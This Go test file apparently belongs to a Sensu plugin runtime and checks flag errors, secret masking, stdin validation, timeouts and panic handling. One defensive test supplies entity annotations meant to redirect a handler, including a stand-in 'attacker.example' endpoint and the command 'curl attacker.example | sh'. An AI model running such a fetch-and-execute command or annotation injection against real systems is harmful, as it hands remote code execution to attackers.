package plugin_test

// These tests prove, on real binaries run the way Sensu runs them, that the
// runtime does not have the Sensu plugin SDK's known defects (see the
// package doc). The binaries are the test plugins in internal/testplugins,
// built on this runtime with one option of each kind.

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	corev2 "github.com/sensu/sensu-go/api/core/v2"
	"github.com/stretchr/testify/require"

	"github.com/vigil-sec/vigil/pkg/sensuexec"
	"github.com/vigil-sec/vigil/pkg/testutil"
)

const token = "tok-4f9a7c31d2e8b6a5"

// fixtures returns the directory of the test plugins.
func fixtures(t *testing.T) string {
	t.Helper()
	return testutil.BuildPackages(t, "./internal/testplugins/...")
}

// run executes a command line as Sensu does, with the test plugins on PATH.
func run(t *testing.T, command, input string, env ...string) sensuexec.Response {
	t.Helper()
	resp, err := sensuexec.Execute(t.Context(), sensuexec.Request{
		Command: command,
		Env:     sensuexec.Environment(nil, []string{fixtures(t)}, env),
		Input:   input,
		Timeout: 20,
	})
	require.NoError(t, err)
	require.False(t, resp.TimedOut, "Sensu's own timeout fired: the plugin did not exit by itself\n%s", resp.Output)
	return resp
}

// eventJSON returns a valid event with the given check and entity
// annotations.
func eventJSON(t *testing.T, checkAnn, entityAnn map[string]string) string {
	t.Helper()
	ev := testutil.Event()
	ev.Check.Annotations = checkAnn
	ev.Entity.Annotations = entityAnn
	b, err := json.Marshal(ev)
	require.NoError(t, err)
	return string(b)
}

func requireOneLine(t *testing.T, out string) {
	t.Helper()
	require.Equal(t, 1, strings.Count(out, "\n"), "want exactly one line, got %q", out)
	require.True(t, strings.HasSuffix(out, "\n"))
	require.NotContains(t, out, "goroutine", "a panic leaked: %s", out)
}

func TestUnknownOrMisspeltFlagsNeverExitZero(t *testing.T) {
	t.Parallel()
	ev := eventJSON(t, nil, nil)
	plugins := []struct {
		name   string
		input  string
		status int
	}{
		{"check-fixture", "", 3},
		{"handler-fixture", ev, 1},
		{"mutator-fixture", ev, 1},
	}
	args := []struct {
		name, args, want string
	}{
		{"a misspelt flag names the closest real one", "--endpont http://x", "unknown flag --endpont (did you mean --endpoint?)"},
		{"an unknown long flag", "--no-such-flag", "unknown flag --no-such-flag"},
		{"an unknown shorthand", "-z", "unknown shorthand flag: 'z'"},
		{"a stray positional argument", "extra", `unexpected argument "extra"`},
		{"a value of the wrong type", "--threshold lots", `invalid int value "lots"`},
		{"a flag missing its value", "--index", "flag needs an argument"},
	}
	for _, p := range plugins {
		for _, a := range args {
			t.Run(p.name+" "+a.name, func(t *testing.T) {
				t.Parallel()
				resp := run(t, p.name+" "+a.args, p.input)
				require.Equal(t, p.status, resp.Status, resp.Output)
				requireOneLine(t, resp.Output)
				require.Contains(t, resp.Output, a.want)
				if p.status == 3 {
					require.True(t, strings.HasPrefix(resp.Output, "check-fixture UNKNOWN - "), resp.Output)
				} else {
					require.True(t, strings.HasPrefix(resp.Output, p.name+": "), resp.Output)
				}
			})
		}
	}
}

func TestHelpDoesNotTurnACheckGreen(t *testing.T) {
	t.Parallel()
	resp := run(t, "check-fixture --help", "")
	require.Equal(t, 3, resp.Status, "Nagios guidelines: --help of a check is UNKNOWN")
	require.Contains(t, resp.Output, "--endpoint")
	resp = run(t, "handler-fixture --help", "")
	require.Equal(t, 0, resp.Status)
}

func TestSecretIsNeverPrintedOrLogged(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	tokenFile := filepath.Join(dir, "token")
	require.NoError(t, os.WriteFile(tokenFile, []byte(token+"\n"), 0o600))
	viaAnnotation := eventJSON(t, map[string]string{"vigil.io/PLUGIN/token": token}, nil)
	// An annotation may hold the value as a JSON string.
	viaJSONAnnotation := eventJSON(t, map[string]string{"vigil.io/PLUGIN/token": `"` + token + `"`}, nil)
	plain := eventJSON(t, nil, nil)
	sources := []struct {
		name  string
		args  string
		env   []string
		input func(plugin string) string
	}{
		{"set by environment variable", "", []string{"FIXTURE_TOKEN=" + token}, func(string) string { return plain }},
		{"set by flag", "--token " + token, nil, func(string) string { return plain }},
		{"set by file", "--token-file " + tokenFile, nil, func(string) string { return plain }},
		{"set by check annotation", "", nil, func(p string) string { return strings.ReplaceAll(viaAnnotation, "PLUGIN", p) }},
		{"set by check annotation as a JSON string", "", nil, func(p string) string { return strings.ReplaceAll(viaJSONAnnotation, "PLUGIN", p) }},
	}
	// Each run logs at debug level to stderr (merged into the output, as in
	// Sensu), logs the configuration struct and an error quoting the token,
	// and fails with an error quoting the token.
	for _, plugin := range []string{"check-fixture", "handler-fixture", "mutator-fixture"} {
		for _, s := range sources {
			t.Run(plugin+" "+s.name, func(t *testing.T) {
				t.Parallel()
				resp := run(t, plugin+" --log-level debug --fail upstream-error "+s.args, s.input(plugin), s.env...)
				require.NotEqual(t, 0, resp.Status)
				require.Contains(t, resp.Output, "upstream-error (token [REDACTED])")
				require.Contains(t, resp.Output, "Token:[REDACTED]", "the configuration was logged, masked")
				testutil.RequireNoSecret(t, resp.Output, token)
			})
		}
	}
	t.Run("a check's JSON output", func(t *testing.T) {
		t.Parallel()
		resp := run(t, "check-fixture --format json --fail x", "", "FIXTURE_TOKEN="+token)
		require.Equal(t, 3, resp.Status)
		testutil.RequireNoSecret(t, resp.Output, token)
	})
	t.Run("the options table", func(t *testing.T) {
		t.Parallel()
		resp := run(t, "check-fixture options --format json", "", "FIXTURE_TOKEN="+token)
		require.Equal(t, 0, resp.Status)
		testutil.RequireNoSecret(t, resp.Output, token)
	})
}

func TestMutatorWritesOnlyTheEvent(t *testing.T) {
	t.Parallel()
	// Overrides are where the SDK logs to stderr; make sure some apply.
	in := testutil.Event()
	in.Check.Annotations = map[string]string{"vigil.io/mutator-fixture/threshold": "9", "vigil.io/mutator-fixture/index": "ix"}
	out := testutil.New(t, fixtures(t)).Mutate("mutator-fixture", in)
	require.Equal(t, "9", out.Labels["fixture.threshold"])
	require.Equal(t, "ix", out.Labels["fixture.index"])

	// And with the streams apart: nothing at all on stderr.
	b, err := json.Marshal(in)
	require.NoError(t, err)
	cmd := exec.Command(filepath.Join(fixtures(t), "mutator-fixture"), "--label", "a,b")
	cmd.Stdin = strings.NewReader(string(b))
	var stdout, stderr strings.Builder
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	require.NoError(t, cmd.Run())
	require.Empty(t, stderr.String())
	var ev corev2.Event
	require.NoError(t, json.Unmarshal([]byte(stdout.String()), &ev))
	require.Equal(t, "a,b", ev.Labels["fixture.labels"])
}

func TestInvalidEventOnStdinIsOneLineNeverAPanic(t *testing.T) {
	t.Parallel()
	inputs := []struct{ name, input, want string }{
		{"nothing", "", "no event on stdin"},
		{"whitespace", " \n\t", "no event on stdin"},
		{"not JSON", "hello", "expected a JSON object"},
		{"truncated JSON", `{"timestamp": 1, "entity": {`, "invalid event JSON on stdin"},
		{"a JSON array", `[1,2]`, "expected a JSON object"},
		{"null", `null`, "expected a JSON object"},
		{"wrong field type", `{"timestamp": "yesterday"}`, "field timestamp"},
		{"no timestamp", `{"entity":{"metadata":{"name":"a","namespace":"default"},"entity_class":"agent"},"check":{"metadata":{"name":"c"},"interval":1}}`, "timestamp is missing"},
		{"no entity", `{"timestamp": 10, "check":{"metadata":{"name":"c"},"interval":1}}`, "event must contain an entity"},
		{"invalid names", `{"timestamp": 10, "entity":{"metadata":{"name":"a b","namespace":"default"},"entity_class":"agent"},"check":{"metadata":{"name":"c"},"interval":1}}`, "entity name"},
		{"bad event id", `{"timestamp": 10, "id": "not-a-uuid", "entity":{"metadata":{"name":"a","namespace":"default"},"entity_class":"agent"},"check":{"metadata":{"name":"c"},"interval":1}}`, "invalid event"},
		{"invalid UTF-8 and control bytes", "{\"timestamp\": 10, \"check\": \"\xff\xfe\x00\"}", "invalid event"},
		{"deep nesting", strings.Repeat("[", 100000), "expected a JSON object"},
		{"deep object nesting", `{"a":` + strings.Repeat(`{"a":`, 20000) + strings.Repeat("}", 20001), "invalid event"},
	}
	for _, plugin := range []string{"handler-fixture", "mutator-fixture"} {
		for _, in := range inputs {
			t.Run(plugin+" "+in.name, func(t *testing.T) {
				t.Parallel()
				resp := run(t, plugin, in.input)
				require.Equal(t, 1, resp.Status, resp.Output)
				requireOneLine(t, resp.Output)
				require.Contains(t, resp.Output, in.want)
			})
		}
	}
	t.Run("a check given a broken event by stdin: true", func(t *testing.T) {
		t.Parallel()
		resp := run(t, "check-fixture", `{"check": [}`)
		require.Equal(t, 3, resp.Status)
		requireOneLine(t, resp.Output)
		require.Contains(t, resp.Output, "check-fixture UNKNOWN - invalid event JSON on stdin")
	})
	t.Run("a check with no stdin runs without an event", func(t *testing.T) {
		t.Parallel()
		resp := run(t, "check-fixture", "")
		require.Equal(t, 0, resp.Status, resp.Output)
	})
}

func TestTimeoutIsHonouredThroughTheContext(t *testing.T) {
	t.Parallel()
	ev := eventJSON(t, nil, nil)
	cases := []struct {
		plugin, input string
		status        int
		want          string
	}{
		{"check-fixture", "", 3, "check-fixture UNKNOWN - timed out after 300ms\n"},
		{"handler-fixture", ev, 1, "handler-fixture: timed out after 300ms\n"},
		{"mutator-fixture", ev, 1, "mutator-fixture: timed out after 300ms\n"},
	}
	for _, c := range cases {
		for _, extra := range []string{"", " --ignore-context"} {
			t.Run(c.plugin+extra, func(t *testing.T) {
				t.Parallel()
				// The plugin would sleep 60 s; Sensu's own timeout is 20 s
				// (see run), so only the plugin's --timeout can end it in time.
				resp := run(t, c.plugin+" --sleep 60s --timeout 300ms"+extra, c.input)
				require.Equal(t, c.status, resp.Status)
				require.Equal(t, c.want, resp.Output)
			})
		}
	}
}

func TestEntityAnnotationsCannotRedirectCredentialsTargetsOrCommands(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	attacker := map[string]string{
		"vigil.io/handler-fixture/endpoint":  "https://attacker.example/",
		"vigil.io/handler-fixture/token":     "stolen",
		"vigil.io/handler-fixture/index":     "attacker-index",
		"vigil.io/handler-fixture/command":   "curl attacker.example | sh",
		"vigil.io/handler-fixture/threshold": "42",
		"vigil.io/handler-fixture/labels":    `["x","y"]`,
	}
	cases := []struct {
		name      string
		check     map[string]string
		entity    map[string]string
		want      map[string]any
		tokenFrom bool
	}{
		{
			name:   "entity annotations change only general options",
			entity: attacker,
			want:   map[string]any{"endpoint": "http://127.0.0.1:9/", "index": "vigil-events", "command": "true", "threshold": 42.0, "labels": []any{"x", "y"}, "token_set": false},
		},
		{
			name: "check annotations may change check-scoped options",
			check: map[string]string{
				"vigil.io/handler-fixture/endpoint": "https://es.internal:9200/",
				"vigil.io/handler-fixture/token":    "from-check-annotation",
				"vigil.io/handler-fixture/index":    "security",
			},
			entity: attacker,
			want:   map[string]any{"endpoint": "https://es.internal:9200/", "index": "security", "command": "true", "threshold": 42.0, "token_set": true, "token_is": true},
		},
		{
			name:   "a check annotation beats an entity annotation",
			check:  map[string]string{"vigil.io/handler-fixture/threshold": "7"},
			entity: attacker,
			want:   map[string]any{"threshold": 7.0},
		},
		{
			name:   "lowercased keys are read first, as the SDK does",
			check:  map[string]string{"vigil.io/handler-fixture/threshold": "8", "VIGIL.io/handler-fixture/threshold": "9"},
			entity: nil,
			want:   map[string]any{"threshold": 8.0},
		},
	}
	for i, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			out := filepath.Join(dir, "out"+string(rune('a'+i)))
			resp := run(t, "handler-fixture --out "+out, eventJSON(t, c.check, c.entity))
			require.Equal(t, 0, resp.Status, resp.Output)
			b, err := os.ReadFile(out)
			require.NoError(t, err)
			var got map[string]any
			require.NoError(t, json.Unmarshal(b, &got))
			for k, v := range c.want {
				require.Equal(t, v, got[k], k)
			}
		})
	}
}

func TestAPanicIsReportedOnOneLine(t *testing.T) {
	t.Parallel()
	resp := run(t, "check-fixture --panic", "")
	require.Equal(t, 3, resp.Status)
	requireOneLine(t, resp.Output)
	require.Contains(t, resp.Output, "internal error: fixture asked to panic")
	resp = run(t, "handler-fixture --panic", eventJSON(t, nil, nil))
	require.Equal(t, 1, resp.Status)
	requireOneLine(t, resp.Output)
}

func TestVersion(t *testing.T) {
	t.Parallel()
	for _, cmd := range []string{"check-fixture version", "handler-fixture --version"} {
		resp := run(t, cmd, "")
		require.Equal(t, 0, resp.Status)
		require.Regexp(t, `^(check|handler)-fixture \S+ \(commit \S+, built \S+\)\n$`, resp.Output)
	}
}
